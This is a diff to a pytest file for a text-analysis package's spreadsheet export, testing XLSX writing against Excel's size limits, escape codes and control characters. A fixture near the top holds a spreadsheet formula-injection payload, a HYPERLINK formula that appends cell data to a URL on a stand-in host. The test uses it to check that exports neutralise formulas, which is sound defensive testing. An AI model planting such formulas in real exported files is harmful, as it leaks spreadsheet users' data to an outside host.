@@ -1,4 +1,4 @@
-"""Tables of hostile articles and names, by every command that writes CSV: nothing that a spreadsheet would run."""
+"""Tables of hostile articles and names: nothing that a spreadsheet would run, nothing that it cannot hold."""
 
 from __future__ import annotations
 
@@ -9,9 +9,13 @@ import re
 from pathlib import Path
 
 import pytest
+from drafts import Draft
+from openpyxl import load_workbook
 
 from hedgelens import Collection
 from hedgelens.collection import Columns
+from hedgelens.interchange import read_sheet, write_sheet, writing
+from hedgelens.records import HedgeLensError
 
 FORMULA = '=HYPERLINK("http://example.org/?"&A1,"More")'
 TEXT = f"""{FORMULA} perhaps clearly showed it, the mayor said.
@@ -103,3 +107,51 @@ def test_lines_of_json_are_lines_to_everybody(command_line, tmp_path):
     code, out, _ = command_line("analyze", path, path, "--engine", "rules", "--format", "jsonl")
     assert code == 0
     assert {json.loads(line)["article"]["id"] for line in out.splitlines()} == {Path(path).stem}
+
+
+def units(text):
+    """The length of a text as Excel counts it."""
+    return len(text.encode("utf-16-le")) // 2
+
+
+def long_draft(filling):
+    """An analysis of which a sentence, a content and the name of a source hold a filling."""
+    d = Draft(f"Ann says that {filling} rose.\nIt fell.")
+    d.says(d.source(f"Ann {filling}"), "says", f"that {filling} rose", who="Ann")
+    d.hedge("fell", "adaptor")
+    return d.done()
+
+
+@pytest.mark.parametrize(
+    "filling",
+    [
+        "🚢" * 20_000,
+        "x" * 40_000,
+        "🚢x" * 12_000,
+        "x" * 31_990 + "🚢" * 9,
+        "_x0041_ _x005F_x0041_",
+        "\x00\x1b\x9f\ud83d\ufffe",
+        "_x000D_\n" * 9,
+    ],
+    ids=["emoji", "letters", "both", "cut within one", "codes of characters", "unwritable", "codes of line ends"],
+)
+def test_a_coding_sheet_keeps_to_the_limits_of_excel_and_reads_back(tmp_path, filling):
+    analysis = long_draft(filling)
+    path = tmp_path / "sheet.xlsx"
+    write_sheet(analysis, path)
+    workbook = load_workbook(path)
+    cells = [cell for page in workbook for row in page.iter_rows() for cell in row if isinstance(cell.value, str)]
+    assert max(units(cell.value) for cell in cells) <= 32_767
+    assert not [cell for cell in cells if re.search("_x[0-9A-Fa-f]{4}_", cell.value)]
+    assert all(len(page.title) <= 31 for page in workbook)
+    read = read_sheet(path)
+    assert read.analyses == (analysis,)
+    assert read.changes == ()
+
+
+def test_a_coding_sheet_of_too_many_rows_is_refused(tmp_path, monkeypatch):
+    path = tmp_path / "sheet.xlsx"
+    monkeypatch.setattr(writing, "MOST_ROWS", 40)
+    with pytest.raises(HedgeLensError, match="Write several, of fewer articles each"):
+        write_sheet(long_draft("it"), path)
+    assert not path.exists()
